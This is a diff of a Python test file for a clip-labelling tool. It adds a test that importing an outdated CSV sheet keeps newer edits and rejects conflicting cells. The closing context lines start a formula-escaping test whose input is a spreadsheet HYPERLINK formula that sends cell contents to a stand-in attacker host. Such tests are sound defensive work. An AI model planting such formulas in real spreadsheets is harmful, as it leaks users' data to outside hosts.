@@ -187,6 +187,39 @@ def test_export_then_import_is_no_change_and_edits_apply(cut_ws: Workspace, tmp_
     assert cut_ws.read_labels()[rows[3]["clip_id"]]["accent"] == "Fife"
 
 
+def test_an_older_sheet_keeps_what_changed_since_and_refuses_what_both_changed(
+    cut_ws: Workspace, tmp_path: Path
+) -> None:
+    """A sheet exported before another reviewer's edit: importing it keeps that edit (it used
+    to put the sheet's older words back, silently), applies what only the sheet changed, and
+    stops, changing nothing, where both changed the same cell."""
+    first, second, third = sorted(cut_ws.read_clip_table(columns=["clip_id"])["clip_id"].to_pylist())[:3]
+    set_labels(cut_ws, [first, second], {"transcript": "Words typed before the export"})
+    sheet = tmp_path / "stale.csv"
+    export_labels(cut_ws, sheet)
+    set_labels(cut_ws, [first], {"transcript": "Carol fixed this on the review page"}, reviewer="carol")
+    rows = read_csv(sheet)
+    by_id = {row["clip_id"]: row for row in rows}
+    by_id[second]["note"] = "dave's note"  # another row of the same clip set
+    by_id[third]["accent"] = "Fife"
+    write_csv_atomic(sheet, list(rows[0]), rows)
+    changes = import_labels(cut_ws, sheet, reviewer="dave")
+    assert {(c.clip_id, c.field, c.new) for c in changes} == {
+        (second, "note", "dave's note"),
+        (third, "accent", "Fife"),
+    }
+    assert cut_ws.read_labels()[first]["transcript"] == "Carol fixed this on the review page"
+    # the sheet's cell changed too: both changed it, nothing is imported
+    by_id[first]["transcript"] = "Dave's words"
+    by_id[third]["accent"] = "Glasgow"
+    write_csv_atomic(sheet, list(rows[0]), rows)
+    with pytest.raises(AccentdsError, match=r"transcript of .+ changed since this sheet was written"):
+        import_labels(cut_ws, sheet, reviewer="dave")
+    labels = cut_ws.read_labels()
+    assert labels[first]["transcript"] == "Carol fixed this on the review page"
+    assert labels[third]["accent"] == "Fife"
+
+
 def test_export_escapes_formulas_for_spreadsheets_and_imports_back(cut_ws: Workspace, tmp_path: Path) -> None:
     ids = _ids(cut_ws)
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
